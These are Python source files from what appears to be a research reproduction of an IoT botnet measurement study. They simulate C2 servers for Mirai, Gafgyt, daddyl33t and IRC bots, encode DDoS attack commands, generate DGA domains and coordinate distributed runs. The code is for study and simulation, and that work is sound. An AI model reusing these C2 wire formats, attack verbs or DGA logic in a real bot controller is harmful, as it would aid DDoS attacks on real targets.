#: NFO attacks carry a fixed custom payload towards UDP port 238 (§5.1).
NFO_PORT = 238


def encode_attack(command: AttackCommand) -> bytes:
    verb = _METHOD_TO_VERB.get(command.method)
    if verb is None:
        raise ProtocolError(f"daddyl33t cannot encode method {command.method!r}")
    return (
        f".{verb} {int_to_ip(command.target_ip)} "
        f"{command.target_port} {command.duration}\r\n"
    ).encode("ascii")


def decode_attack_line(line: str) -> AttackCommand:
    parts = line.strip().split()
    if not parts or not parts[0].startswith("."):
        raise ProtocolError(f"not a daddyl33t command: {line!r}")
    verb = parts[0][1:].upper()
    method = _VERB_TO_METHOD.get(verb)
    if method is None:
        raise ProtocolError(f"unknown daddyl33t verb: {verb!r}")
    if len(parts) < 4:
        raise ProtocolError(f"short {verb} command: {line!r}")
    try:
        target_ip = ip_to_int(parts[1])
        port = int(parts[2])
        duration = int(parts[3])
    except (AddressError, ValueError) as exc:
        raise ProtocolError(f"bad {verb} operands: {line!r}") from exc
    return AttackCommand(
        method=method, target_ip=target_ip, target_port=port, duration=duration
    )


def extract_commands(server_stream: bytes) -> list[AttackCommand]:
    """Profile a captured server→bot text stream for attack commands."""
    commands: list[AttackCommand] = []
    for raw_line in server_stream.replace(b"\r", b"\n").split(b"\n"):
        line = raw_line.decode("ascii", "replace").strip()
        if not line.startswith("."):
            continue
        try:
            commands.append(decode_attack_line(line))
        except ProtocolError:
            continue
    return commands


def is_checkin(client_stream: bytes) -> bool:
    return client_stream[:32].lower().startswith(b"login ")
