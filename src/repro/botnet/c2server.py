"""Simulated C2 servers: protocol dialects, elusiveness, attack issuance.

A :class:`C2Server` is the service bound to a C2 host's port inside the
virtual Internet.  It speaks its family's dialect server-side (answering
check-ins and keepalives) and pushes scheduled :class:`AttackCommand`\\ s to
connected bots — which is how the study eavesdrops on real attack launches
(section 2.5).

Elusiveness (section 3.2) is modeled by :class:`ResponsivenessModel`, a
two-state Markov chain sampled on the paper's 4-hour probe grid and
calibrated so that ~91% of the time a server that just responded will not
respond again 4 hours later, while still being reachable often enough to
be discovered at all.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from ..netsim.internet import SECONDS_PER_DAY, TimeWheel
from .families import C2Dialect, Family
from .protocols import daddyl33t, gafgyt, irc, mirai
from .protocols.base import AttackCommand

#: Probe interval of the D-PC2 campaign: 4 hours (section 2.3b).
SLOT_SECONDS = 4 * 3600.0


class ResponsivenessModel:
    """Markov-chain reachability of a C2 server on a 4-hour slot grid.

    ``p_stay_open`` is P(open at slot k+1 | open at slot k); the paper
    measures this at roughly 0.09 (91% of successful probes are not
    followed by a second success 4h later).  ``p_open`` is the stationary
    probability of being reachable in any given slot.
    """

    def __init__(
        self,
        seed: int,
        p_open: float = 0.22,
        p_stay_open: float = 0.09,
        origin: float = 0.0,
    ):
        if not 0 < p_open < 1:
            raise ValueError("p_open must be in (0, 1)")
        if not 0 <= p_stay_open <= 1:
            raise ValueError("p_stay_open must be in [0, 1]")
        self._rng = random.Random(seed)
        self._p_open = p_open
        self._p_stay = p_stay_open
        # balance: pi*P(stay) + (1-pi)*P(reopen) = pi
        self._p_reopen = p_open * (1.0 - p_stay_open) / (1.0 - p_open)
        if self._p_reopen > 1:
            raise ValueError("inconsistent p_open/p_stay_open pair")
        self._origin = origin
        self._states: list[bool] = []

    def _slot(self, now: float) -> int:
        return max(0, int((now - self._origin) // SLOT_SECONDS))

    def _extend_to(self, slot: int) -> None:
        while len(self._states) <= slot:
            if not self._states:
                self._states.append(self._rng.random() < self._p_open)
                continue
            previous = self._states[-1]
            threshold = self._p_stay if previous else self._p_reopen
            self._states.append(self._rng.random() < threshold)

    def is_open(self, now: float) -> bool:
        """Reachability of the server in the slot containing ``now``."""
        slot = self._slot(now)
        self._extend_to(slot)
        return self._states[slot]


@dataclass
class ScheduledAttack:
    """An attack command the C2 will issue at (or after) ``when``.

    A command is pushed once per *session* (the real CNC broadcasts to all
    connected bots), and only within ``window`` seconds of its scheduled
    time — an attack order is not replayed to bots that connect days later.
    """

    when: float
    command: AttackCommand
    window: float = 4 * 3600.0

    def due(self, now: float) -> bool:
        return self.when <= now < self.when + self.window


class C2Server:
    """Dialect-aware C2 service for the virtual Internet.

    Implements :class:`repro.netsim.internet.TcpService`.  Per-session
    protocol state lives on the session object; cross-session state (which
    scheduled attacks a bot already received) lives here.
    """

    def __init__(
        self,
        family: Family,
        rng: random.Random,
        schedule: list[ScheduledAttack] | None = None,
    ):
        if family.dialect == C2Dialect.P2P:
            raise ValueError("P2P families have no central C2 server")
        self.family = family
        self.rng = rng
        self.schedule = schedule or []
        #: bot addresses that ever completed a check-in
        self.checked_in: set[int] = set()
        #: (bot, command) deliveries, for ground-truth accounting
        self.issued: list[tuple[int, AttackCommand, float]] = []
        #: schedule indexes bucketed by 4h slot; rebuilt lazily after
        #: schedule changes (see :meth:`_schedule_wheel`)
        self._wheel: TimeWheel | None = None
        #: DGA lifecycle: every (domain, since, until) window the operator
        #: registered for this server, across all address generations
        self.domain_schedule: list[tuple[str, float, float]] = []

    # -- domain churn ---------------------------------------------------------

    def register_domain_window(self, domain: str, since: float, until: float) -> None:
        """Record that ``domain`` pointed at this server in [since, until)."""
        self.domain_schedule.append((domain, since, until))

    def active_domains(self, now: float) -> list[str]:
        """Domains reaching this server at ``now`` (end-exclusive)."""
        return [d for d, since, until in self.domain_schedule
                if since <= now < until]

    # -- scheduling -----------------------------------------------------------

    def schedule_attack(self, when: float, command: AttackCommand) -> None:
        self.schedule.append(ScheduledAttack(when, command))
        self.schedule.sort(key=lambda item: item.when)
        self._wheel = None

    def _schedule_wheel(self) -> TimeWheel:
        """Schedule indexes bucketed under every slot their window spans.

        Every bot poll used to scan the whole schedule; the wheel makes a
        poll touch only the commands whose delivery window overlaps the
        current 4h slot (an idle slot is one dict miss).  Indexes are
        inserted in ascending order, so per-slot candidates come back in
        the same order the full scan would have visited them — the
        ``delivered`` bookkeeping in session state is unchanged.
        """
        wheel = self._wheel
        if wheel is None:
            wheel = self._wheel = TimeWheel(SLOT_SECONDS)
            for index, item in enumerate(self.schedule):
                wheel.add_window(item.when, item.when + item.window, index)
        return wheel

    def _due_commands(self, session, now: float) -> list[AttackCommand]:
        delivered: set[int] = session.state.setdefault("delivered", set())
        due: list[AttackCommand] = []
        for index in self._schedule_wheel().items_at(now):
            item = self.schedule[index]
            if item.due(now) and index not in delivered:
                delivered.add(index)
                due.append(item.command)
                self.issued.append((session.peer, item.command, now))
        return due

    # -- TcpService interface ---------------------------------------------------

    def on_connect(self, session) -> None:
        session.state["buffer"] = b""
        session.state["registered"] = False
        if self.family.dialect == C2Dialect.DADDYL33T_TEXT:
            session.send(daddyl33t.WELCOME)
        elif self.family.dialect == C2Dialect.IRC:
            session.send(irc.encode_welcome())

    def on_data(self, session, data: bytes) -> None:
        dispatch = {
            C2Dialect.MIRAI_BINARY: self._mirai_data,
            C2Dialect.GAFGYT_TEXT: self._gafgyt_data,
            C2Dialect.DADDYL33T_TEXT: self._daddy_data,
            C2Dialect.IRC: self._irc_data,
        }
        dispatch[self.family.dialect](session, data)

    # -- dialect handlers -------------------------------------------------------

    def _push_due(self, session, encode) -> None:
        for command in self._due_commands(session, session.now):
            session.send(encode(command))

    def _mirai_data(self, session, data: bytes) -> None:
        buffer = session.state["buffer"] + data
        if not session.state["registered"]:
            if mirai.is_checkin(buffer):
                session.state["registered"] = True
                self.checked_in.add(session.peer)
                session.send(mirai.HANDSHAKE)  # CNC acks with the same word
                buffer = b""
            session.state["buffer"] = buffer
            if not session.state["registered"]:
                return
        if mirai.KEEPALIVE in data or not data:
            session.send(mirai.KEEPALIVE)
        self._push_due(session, mirai.encode_attack)

    def _gafgyt_data(self, session, data: bytes) -> None:
        text = data.upper()
        if text.startswith(b"BUILD"):
            session.state["registered"] = True
            self.checked_in.add(session.peer)
            session.send(b"!* SCANNER ON\n")
        if b"PING" in text and session.state["registered"]:
            session.send(gafgyt.PONG)
        if session.state["registered"]:
            self._push_due(session, gafgyt.encode_attack)

    def _daddy_data(self, session, data: bytes) -> None:
        if data.lower().startswith(b"login "):
            session.state["registered"] = True
            self.checked_in.add(session.peer)
            session.send(b"auth ok\r\n")
        if session.state["registered"]:
            self._push_due(session, daddyl33t.encode_attack)

    def _irc_data(self, session, data: bytes) -> None:
        if irc.is_checkin(data) or data.upper().startswith(b"NICK"):
            session.state["registered"] = True
            self.checked_in.add(session.peer)
            session.send(irc.encode_ping())
        if session.state["registered"]:
            self._push_due(session, irc.encode_attack)


class DownloaderHttp:
    """Plain HTTP loader-distribution service (port 80).

    The paper finds downloader servers co-located with C2s and always on
    port 80 (section 3.1); the world generator binds this service there.
    """

    def __init__(self, files: dict[str, bytes] | None = None):
        self.files = files or {}
        self.requests: list[str] = []

    def on_connect(self, session) -> None:
        session.state["buffer"] = b""

    def on_data(self, session, data: bytes) -> None:
        buffer = session.state["buffer"] + data
        session.state["buffer"] = buffer
        if b"\r\n\r\n" not in buffer and b"\n\n" not in buffer:
            return
        line = buffer.split(b"\r\n", 1)[0].decode("ascii", "replace")
        parts = line.split()
        path = parts[1] if len(parts) >= 2 else "/"
        self.requests.append(path)
        body = self.files.get(path.lstrip("/"), b"#!/bin/sh\nwget loader stub\n")
        session.send(
            b"HTTP/1.0 200 OK\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\n\r\n" + body
        )


def observed_lifespan_days(first_seen: float, last_seen: float) -> float:
    """The paper's lifespan metric: last minus first observation, in days."""
    if last_seen < first_seen:
        raise ValueError("last_seen before first_seen")
    return (last_seen - first_seen) / SECONDS_PER_DAY
