"""Malware family registry (paper Table 6).

Each family descriptor captures the behavioral facts the study relies on:
the C2 protocol dialect, whether the binary's config table is obfuscated
(Mirai-style), which DDoS attack methods the family's variants implement,
and whether the family is P2P (Mozi, Hajime) — P2P samples are filtered
out of the D-C2s dataset (section 2.3).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass


class C2Dialect(enum.Enum):
    """Application-layer C2 protocol style."""

    MIRAI_BINARY = "mirai-binary"
    GAFGYT_TEXT = "gafgyt-text"
    DADDYL33T_TEXT = "daddyl33t-text"
    IRC = "irc"
    P2P = "p2p"


@dataclass(frozen=True)
class Family:
    """Static description of one malware family."""

    name: str
    dialect: C2Dialect
    description: str
    obfuscated_config: bool = False
    is_p2p: bool = False
    #: DDoS methods this family's variants can launch (names as issued in
    #: C2 commands; see section 5.1).
    attack_methods: tuple[str, ...] = ()
    #: named variants observed in the study (section 5: two per family for
    #: the three attack-launching families)
    variants: tuple[str, ...] = ("v1",)


MIRAI = Family(
    name="mirai",
    dialect=C2Dialect.MIRAI_BINARY,
    description=(
        "Exploits IoT devices and turns them into bots; appeared 2016; "
        "binary-based C2 protocol; behind the Dyn and OVH DDoS attacks."
    ),
    obfuscated_config=True,
    attack_methods=("udp", "syn", "tls", "stomp", "vse"),
    variants=("mirai.a", "mirai.b"),
)

GAFGYT = Family(
    name="gafgyt",
    dialect=C2Dialect.GAFGYT_TEXT,
    description=(
        "Infects Linux/BusyBox systems to launch DDoS attacks; appeared "
        "2014; text-based C2 protocol."
    ),
    attack_methods=("udp", "std", "vse"),
    variants=("gafgyt.a", "gafgyt.b"),
)

TSUNAMI = Family(
    name="tsunami",
    dialect=C2Dialect.IRC,
    description=(
        "Linux backdoor with download-and-execute capability; communicates "
        "over the IRC protocol."
    ),
    attack_methods=("udp",),
    variants=("tsunami.a",),
)

DADDYL33T = Family(
    name="daddyl33t",
    dialect=C2Dialect.DADDYL33T_TEXT,
    description=(
        "QBot-derived IoT bot; text protocol; distinctive ICMP "
        "(BLACKNURSE) and gaming-server attacks."
    ),
    attack_methods=("udpraw", "hydrasyn", "tls", "blacknurse", "nfo"),
    variants=("daddyl33t.a", "daddyl33t.b"),
)

MOZI = Family(
    name="mozi",
    dialect=C2Dialect.P2P,
    description=(
        "Evolution of Mirai/Gafgyt with Hajime-like DHT P2P communication; "
        "among the most prevalent Linux malware."
    ),
    is_p2p=True,
    variants=("mozi.a",),
)

HAJIME = Family(
    name="hajime",
    dialect=C2Dialect.P2P,
    description=(
        "P2P IoT malware that hardens the infected device while spreading."
    ),
    is_p2p=True,
    variants=("hajime.a",),
)

VPNFILTER = Family(
    name="vpnfilter",
    dialect=C2Dialect.GAFGYT_TEXT,
    description=(
        "APT targeting routers and network devices; persists across "
        "reboots; far more sophisticated than commodity IoT malware."
    ),
    variants=("vpnfilter.a",),
)

#: Registry of the seven families in Table 1 / Table 6.
FAMILIES: dict[str, Family] = {
    fam.name: fam
    for fam in (MIRAI, GAFGYT, TSUNAMI, DADDYL33T, MOZI, HAJIME, VPNFILTER)
}

#: Families whose C2 servers issue DDoS attacks in the study (section 5).
ATTACK_FAMILIES = ("mirai", "gafgyt", "daddyl33t")


def get_family(name: str) -> Family:
    """Look up a family by name (case-insensitive)."""
    try:
        return FAMILIES[name.lower()]
    except KeyError:
        raise KeyError(f"unknown malware family: {name!r}") from None


def c2_families() -> list[Family]:
    """Families with centralized C2 (D-C2s excludes P2P samples)."""
    return [fam for fam in FAMILIES.values() if not fam.is_p2p]


def family_table() -> list[tuple[str, str]]:
    """(name, description) rows, i.e. the content of paper Table 6."""
    return [(fam.name, fam.description) for fam in FAMILIES.values()]
