"""Malware family registry (paper Table 6).

Each family descriptor captures the behavioral facts the study relies on:
the C2 protocol dialect, whether the binary's config table is obfuscated
(Mirai-style), which DDoS attack methods the family's variants implement,
and whether the family is P2P (Mozi, Hajime) — P2P samples are filtered
out of the D-C2s dataset (section 2.3).
"""

from __future__ import annotations

import enum
import hashlib
from dataclasses import dataclass

from ..determinism import stable_seed


class C2Dialect(enum.Enum):
    """Application-layer C2 protocol style."""

    MIRAI_BINARY = "mirai-binary"
    GAFGYT_TEXT = "gafgyt-text"
    DADDYL33T_TEXT = "daddyl33t-text"
    IRC = "irc"
    P2P = "p2p"


@dataclass(frozen=True)
class DgaProfile:
    """Shape of a family's domain-generation algorithm.

    Labels are drawn from a vowel-free alphabet — the classic register of
    machine-generated names (cf. Mirai forks' random second-levels) and
    what makes the defender's char-distribution scorer decisive.  Labels
    must stay ASCII: the sandbox's fake DNS and the wire codec both
    reject anything else.
    """

    #: candidate TLDs, one picked per domain
    tlds: tuple[str, ...]
    #: second-level label length range (inclusive); >= 10 so the
    #: consonant-run feature saturates
    min_length: int = 10
    max_length: int = 14
    #: candidate domains generated per day
    daily_candidates: int = 8
    #: label alphabet (consonants only)
    alphabet: str = "bcdfghjklmnpqrstvwxz"


@dataclass(frozen=True)
class Family:
    """Static description of one malware family."""

    name: str
    dialect: C2Dialect
    description: str
    obfuscated_config: bool = False
    is_p2p: bool = False
    #: DDoS methods this family's variants can launch (names as issued in
    #: C2 commands; see section 5.1).
    attack_methods: tuple[str, ...] = ()
    #: named variants observed in the study (section 5: two per family for
    #: the three attack-launching families)
    variants: tuple[str, ...] = ("v1",)
    #: domain-generation profile; None = static endpoints only
    dga: DgaProfile | None = None


MIRAI = Family(
    name="mirai",
    dialect=C2Dialect.MIRAI_BINARY,
    description=(
        "Exploits IoT devices and turns them into bots; appeared 2016; "
        "binary-based C2 protocol; behind the Dyn and OVH DDoS attacks."
    ),
    obfuscated_config=True,
    attack_methods=("udp", "syn", "tls", "stomp", "vse"),
    variants=("mirai.a", "mirai.b"),
    dga=DgaProfile(tlds=("xyz", "top", "cc")),
)

GAFGYT = Family(
    name="gafgyt",
    dialect=C2Dialect.GAFGYT_TEXT,
    description=(
        "Infects Linux/BusyBox systems to launch DDoS attacks; appeared "
        "2014; text-based C2 protocol."
    ),
    attack_methods=("udp", "std", "vse"),
    variants=("gafgyt.a", "gafgyt.b"),
    dga=DgaProfile(tlds=("pw", "cc", "ru"), min_length=11, max_length=15,
                   daily_candidates=6, alphabet="bcdfghjklmnpqrstvwxz"),
)

TSUNAMI = Family(
    name="tsunami",
    dialect=C2Dialect.IRC,
    description=(
        "Linux backdoor with download-and-execute capability; communicates "
        "over the IRC protocol."
    ),
    attack_methods=("udp",),
    variants=("tsunami.a",),
    dga=DgaProfile(tlds=("net", "cc"), min_length=10, max_length=12,
                   daily_candidates=4, alphabet="bcdfghjklmnpqrstvwz"),
)

DADDYL33T = Family(
    name="daddyl33t",
    dialect=C2Dialect.DADDYL33T_TEXT,
    description=(
        "QBot-derived IoT bot; text protocol; distinctive ICMP "
        "(BLACKNURSE) and gaming-server attacks."
    ),
    attack_methods=("udpraw", "hydrasyn", "tls", "blacknurse", "nfo"),
    variants=("daddyl33t.a", "daddyl33t.b"),
    dga=DgaProfile(tlds=("xyz", "pw"), min_length=12, max_length=16,
                   daily_candidates=8, alphabet="bcdfghjklmnpqrstvwxyz"),
)

MOZI = Family(
    name="mozi",
    dialect=C2Dialect.P2P,
    description=(
        "Evolution of Mirai/Gafgyt with Hajime-like DHT P2P communication; "
        "among the most prevalent Linux malware."
    ),
    is_p2p=True,
    variants=("mozi.a",),
)

HAJIME = Family(
    name="hajime",
    dialect=C2Dialect.P2P,
    description=(
        "P2P IoT malware that hardens the infected device while spreading."
    ),
    is_p2p=True,
    variants=("hajime.a",),
)

VPNFILTER = Family(
    name="vpnfilter",
    dialect=C2Dialect.GAFGYT_TEXT,
    description=(
        "APT targeting routers and network devices; persists across "
        "reboots; far more sophisticated than commodity IoT malware."
    ),
    variants=("vpnfilter.a",),
)

#: Registry of the seven families in Table 1 / Table 6.
FAMILIES: dict[str, Family] = {
    fam.name: fam
    for fam in (MIRAI, GAFGYT, TSUNAMI, DADDYL33T, MOZI, HAJIME, VPNFILTER)
}

#: Families whose C2 servers issue DDoS attacks in the study (section 5).
ATTACK_FAMILIES = ("mirai", "gafgyt", "daddyl33t")


def get_family(name: str) -> Family:
    """Look up a family by name (case-insensitive)."""
    try:
        return FAMILIES[name.lower()]
    except KeyError:
        raise KeyError(f"unknown malware family: {name!r}") from None


def c2_families() -> list[Family]:
    """Families with centralized C2 (D-C2s excludes P2P samples)."""
    return [fam for fam in FAMILIES.values() if not fam.is_p2p]


def family_table() -> list[tuple[str, str]]:
    """(name, description) rows, i.e. the content of paper Table 6."""
    return [(fam.name, fam.description) for fam in FAMILIES.values()]


def dga_families() -> list[Family]:
    """Families that ship a domain-generation algorithm."""
    return [fam for fam in FAMILIES.values() if fam.dga is not None]


def dga_schedule_seed(world_seed: int, family: str, discriminator: int = 0) -> int:
    """32-bit schedule seed embedded in a campaign's bot configs.

    Two campaigns of the same family must not collide on generated
    domains, so the deployment passes its C2 address as ``discriminator``.
    Non-zero by construction: zero means "no DGA" in the config TLV.
    """
    seed = stable_seed("dga-schedule", world_seed, family, discriminator)
    return (seed & 0xFFFFFFFF) or 1


def dga_domains(schedule_seed: int, family: str, day: int) -> list[str]:
    """The day's candidate domains — a pure function of its arguments.

    Derived from sha256 digests rather than ``random.Random`` so the same
    (seed, family, day) yields identical candidates in every process: the
    world generator registers the registrar-won subset, bots iterate the
    full list, and the sandbox recovers the seed from a binary's config.
    """
    fam = get_family(family)
    profile = fam.dga
    if profile is None:
        return []
    domains: list[str] = []
    span = profile.max_length - profile.min_length + 1
    for index in range(profile.daily_candidates):
        material = f"dga|{schedule_seed}|{fam.name}|{day}|{index}"
        digest = hashlib.sha256(material.encode()).digest()
        length = profile.min_length + digest[0] % span
        label = "".join(
            profile.alphabet[digest[1 + i] % len(profile.alphabet)]
            for i in range(length)
        )
        tld = profile.tlds[digest[-1] % len(profile.tlds)]
        domains.append(f"{label}.{tld}")
    return domains
