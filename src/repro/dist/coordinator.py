"""The coordinator: cache-aware placement, stealing, loss detection.

One :class:`Coordinator` owns the client side of every worker
connection for one study run.  Each call to :meth:`run` drains one
dispatch *wave* (the same unit of retry the pool runner always had —
see :meth:`ShardedStudyRunner.join <repro.core.parallel.
ShardedStudyRunner.join>`); within a wave the coordinator is a
single-threaded ``selectors`` event loop over three structures::

    pending   deque of unit indexes not yet placed
    running   unit -> the set of peers currently executing it
    results   unit -> ShardResult (shared across waves by the runner)

and four policies:

*placement* — an idle worker gets the next pending unit; among idle
workers, one whose world cache already holds this study's
:func:`~repro.dist.plan.world_key` wins (a warm world is a deepcopy,
a cold one is a full regeneration, ~8× slower at full scale).

*stealing* — once ``pending`` is empty, an idle worker speculatively
duplicates the longest-running unit whose elapsed time exceeds
``max(min_steal_seconds, steal_factor × median completed-unit wall)``.
First result wins; the loser's result is discarded (``stolen_wasted``).
Because every unit is a pure function of ``(seed, scale, config,
unit)``, twins produce identical bytes — stealing can only move wall
clock, never the digest.

*loss detection* — workers heartbeat every ``heartbeat_interval``
while executing; a busy connection silent for ``heartbeat_timeout``
(or any connection hitting EOF / a framing error) is declared lost,
its units are re-queued with ``attempt + 1``, and the peer is left for
the next wave's reconnect pass (a worker that merely dropped its
connection — the chaos-crash failure mode — is still listening).

*retry bounding* — a unit re-queued more than ``max_unit_retries``
times within one wave is abandoned to the wave's failure report; the
runner's ``max_redispatch`` waves then decide whether to try again.
"""

from __future__ import annotations

import selectors
import socket
import statistics
import time
from collections import deque

from .plan import TaskSpec
from .wire import PROTOCOL_VERSION, FrameDecoder, WireError, recv_frame, \
    send_frame

__all__ = ["Coordinator", "CoordinatorError"]


class CoordinatorError(RuntimeError):
    """Misuse or unrecoverable coordinator state (not a lost worker)."""


class _Peer:
    """Client-side state of one configured worker address."""

    def __init__(self, index: int, address: str):
        self.index = index
        self.address = address          # "host:port" as configured
        self.sock: socket.socket | None = None
        self.decoder = FrameDecoder()
        self.worker_id = address        # replaced by the hello-ack
        self.pid: int | None = None
        self.warm: set[str] = set()     # world keys the worker holds
        self.busy_unit: int | None = None
        self.dispatched_at = 0.0
        self.last_seen = 0.0
        self.lost_this_wave = False
        # lifetime accounting (across waves), surfaced by stats()
        self.completed = 0
        self.wall = 0.0
        self.warm_hits = 0

    @property
    def connected(self) -> bool:
        return self.sock is not None


class _Wave:
    """Mutable state of one run() invocation."""

    def __init__(self, indexes, attempt, results):
        self.indexes = list(indexes)
        self.results = results
        self.pending = deque(sorted(i for i in self.indexes
                                    if i not in results))
        self.attempts = {i: attempt for i in self.pending}
        self.retries = {i: 0 for i in self.pending}
        self.abandoned: set[int] = set()
        self.running: dict[int, set[_Peer]] = {}
        self.reasons: dict[int, str] = {}
        self.walls: list[float] = []

    def outstanding(self) -> list[int]:
        return [i for i in self.indexes if i not in self.results]

    def recoverable(self) -> bool:
        """Something could still produce a missing result this wave."""
        return bool(self.pending) or bool(self.running)


class Coordinator:
    def __init__(self, peers, spec: TaskSpec, *,
                 heartbeat_timeout: float = 15.0,
                 steal_factor: float = 3.0,
                 min_steal_seconds: float = 1.0,
                 connect_timeout: float = 5.0,
                 max_unit_retries: int = 3,
                 clock=time.monotonic):
        if not peers:
            raise CoordinatorError("coordinator needs at least one peer")
        self.spec = spec
        self.heartbeat_timeout = heartbeat_timeout
        self.steal_factor = steal_factor
        self.min_steal_seconds = min_steal_seconds
        self.connect_timeout = connect_timeout
        self.max_unit_retries = max_unit_retries
        self._clock = clock
        self.peers = [_Peer(i, address) for i, address in enumerate(peers)]
        # lifetime accounting across waves
        self.redispatches = 0     # units re-queued (lost worker / failure)
        self.steals = 0
        self.stolen_wasted = 0
        self.lost_workers: list[dict] = []
        self.placements: list[dict] = []

    # -- connection management ---------------------------------------------

    def connect(self) -> int:
        """(Re)connect every unconnected peer; returns the live count.

        Unreachable peers are skipped, not fatal — the runner decides
        when zero live workers turns into shard failures.
        """
        for peer in self.peers:
            peer.lost_this_wave = False
            if peer.connected:
                continue
            host, _, port = peer.address.rpartition(":")
            try:
                sock = socket.create_connection(
                    (host, int(port)), timeout=self.connect_timeout)
                send_frame(sock, {"type": "hello",
                                  "protocol": PROTOCOL_VERSION,
                                  "world": self.spec.world_key})
                ack = recv_frame(sock)
            except (OSError, WireError):
                continue
            if (not isinstance(ack, dict) or ack.get("type") != "hello-ack"
                    or ack.get("protocol") != PROTOCOL_VERSION):
                sock.close()
                continue
            sock.settimeout(None)
            sock.setblocking(False)
            peer.sock = sock
            peer.decoder = FrameDecoder()
            peer.worker_id = str(ack.get("worker", peer.address))
            peer.pid = ack.get("pid")
            peer.warm = set(ack.get("warm", ()))
            peer.last_seen = self._clock()
        return sum(1 for p in self.peers if p.connected)

    def close(self) -> None:
        for peer in self.peers:
            if peer.sock is not None:
                try:
                    send_frame(peer.sock, {"type": "shutdown"})
                except OSError:
                    pass
                peer.sock.close()
                peer.sock = None

    def _live(self) -> list[_Peer]:
        return [p for p in self.peers if p.connected]

    # -- one wave ----------------------------------------------------------

    def run(self, indexes, attempt: int, results: dict,
            timeout: float | None = None) -> dict[int, str]:
        """Drain one wave; returns ``unit -> failure text`` for whatever
        could not be resolved (empty on full success)."""
        wave = _Wave(indexes, attempt, results)
        if not wave.outstanding():
            return {}
        if self.connect() == 0:
            return {i: f"no reachable socket workers "
                       f"(peers: {[p.address for p in self.peers]})"
                    for i in wave.outstanding()}
        deadline = None if timeout is None else self._clock() + timeout
        selector = selectors.DefaultSelector()
        try:
            for peer in self._live():
                selector.register(peer.sock, selectors.EVENT_READ, peer)
            self._loop(wave, selector, deadline)
        finally:
            selector.close()
        failures = {}
        for unit in wave.outstanding():
            failures[unit] = wave.reasons.get(
                unit, f"no result within the {timeout}s wave deadline "
                      "(worker lost or straggling)")
        return failures

    def _loop(self, wave: _Wave, selector, deadline) -> None:
        while wave.outstanding():
            self._assign(wave, selector)
            if not wave.recoverable():
                return                       # every missing unit abandoned
            if not self._live():
                for unit in wave.outstanding():
                    wave.reasons.setdefault(unit, "all socket workers lost")
                return
            now = self._clock()
            if deadline is not None and now >= deadline:
                return
            wait = 0.2 if deadline is None else max(
                0.01, min(0.2, deadline - now))
            for key, _ in selector.select(wait):
                self._pump(key.data, wave, selector)
            now = self._clock()
            for peer in self._live():
                if (peer.busy_unit is not None
                        and now - peer.last_seen > self.heartbeat_timeout):
                    self._lose(peer, "heartbeat lost "
                               f"(silent for {self.heartbeat_timeout}s)",
                               wave, selector)
            self._maybe_steal(wave, selector, self._clock())

    # -- event handling ----------------------------------------------------

    def _pump(self, peer: _Peer, wave: _Wave, selector) -> None:
        """Drain one readable socket into message handling."""
        try:
            data = peer.sock.recv(1 << 16)
        except BlockingIOError:      # spurious wakeup
            return
        except OSError as exc:
            self._lose(peer, f"recv failed: {exc}", wave, selector)
            return
        if not data:
            self._lose(peer, "connection closed by worker", wave, selector)
            return
        try:
            messages = peer.decoder.feed(data)
        except WireError as exc:
            self._lose(peer, f"protocol error: {exc}", wave, selector)
            return
        peer.last_seen = self._clock()
        for message in messages:
            self._handle(peer, message, wave)

    def _handle(self, peer: _Peer, message: dict, wave: _Wave) -> None:
        kind = message.get("type")
        if kind == "heartbeat":
            return
        if kind == "result":
            unit = message["unit"]
            peer.busy_unit = None
            peer.warm = set(message.get("warm", peer.warm))
            wall = float(message.get("wall", 0.0))
            if unit in wave.results:
                # a steal twin lost the race; identical bytes discarded
                self.stolen_wasted += 1
            else:
                result = message["result"]
                result.worker = peer.worker_id
                wave.results[unit] = result
                wave.abandoned.discard(unit)
                wave.walls.append(wall)
            peer.completed += 1
            peer.wall += wall
            runners = wave.running.pop(unit, set())
            runners.discard(peer)
            # twins still executing stay busy until their (now wasted)
            # result drains; the unit itself is settled
            return
        if kind == "failed":
            unit = message["unit"]
            peer.busy_unit = None
            runners = wave.running.get(unit)
            if runners is not None:
                runners.discard(peer)
            self._drop_unit(unit, f"worker {peer.worker_id}: "
                            f"{message.get('error', 'failed')}", wave)
            return
        # hello-ack duplicates and unknown types are ignored: the wire
        # checksum already guarantees they are well-formed

    def _drop_unit(self, unit: int, reason: str, wave: _Wave) -> None:
        """A unit lost one executor; re-queue unless a twin survives."""
        wave.reasons[unit] = reason
        if unit in wave.results:
            return
        if wave.running.get(unit):
            return                       # a steal twin is still on it
        wave.running.pop(unit, None)
        if unit not in wave.retries:     # stale unit from a prior wave
            return
        wave.retries[unit] += 1
        if wave.retries[unit] > self.max_unit_retries:
            wave.abandoned.add(unit)
            wave.reasons[unit] = (
                f"{reason} (gave up after {self.max_unit_retries} "
                "re-queues this wave)")
            return
        wave.attempts[unit] += 1
        self.redispatches += 1
        wave.pending.append(unit)

    def _lose(self, peer: _Peer, reason: str, wave: _Wave,
              selector) -> None:
        """Declare a worker lost: requeue its units, drop the socket."""
        self.lost_workers.append({
            "worker": peer.worker_id, "address": peer.address,
            "reason": reason, "busy_unit": peer.busy_unit,
        })
        try:
            selector.unregister(peer.sock)
        except (KeyError, ValueError):
            pass
        try:
            peer.sock.close()
        finally:
            peer.sock = None
        peer.lost_this_wave = True
        dropped = [unit for unit, runners in wave.running.items()
                   if peer in runners]
        for unit in dropped:
            wave.running[unit].discard(peer)
            self._drop_unit(unit, f"worker {peer.worker_id} lost: {reason}",
                            wave)
        peer.busy_unit = None

    # -- scheduling --------------------------------------------------------

    def _choose(self, idle: list[_Peer]) -> _Peer:
        """Warm-first, then configuration order (deterministic)."""
        return min(idle, key=lambda p: (self.spec.world_key not in p.warm,
                                        p.index))

    def _assign(self, wave: _Wave, selector) -> None:
        while wave.pending:
            idle = [p for p in self._live() if p.busy_unit is None]
            if not idle:
                return
            unit = wave.pending.popleft()
            if unit in wave.results or unit in wave.abandoned:
                continue
            peer = self._choose(idle)
            if not self._send_task(peer, unit, wave.attempts[unit],
                                   wave, selector, steal=False):
                wave.pending.appendleft(unit)

    def _send_task(self, peer: _Peer, unit: int, attempt: int,
                   wave: _Wave, selector, *, steal: bool) -> bool:
        warm = self.spec.world_key in peer.warm
        try:
            send_frame(peer.sock, {
                "type": "task", "unit": unit, "attempt": attempt,
                "spec": {
                    "seed": self.spec.seed,
                    "scale": self.spec.scale,
                    "config": self.spec.config,
                    "unit_count": self.spec.shard_count,
                    "telemetry": self.spec.telemetry,
                },
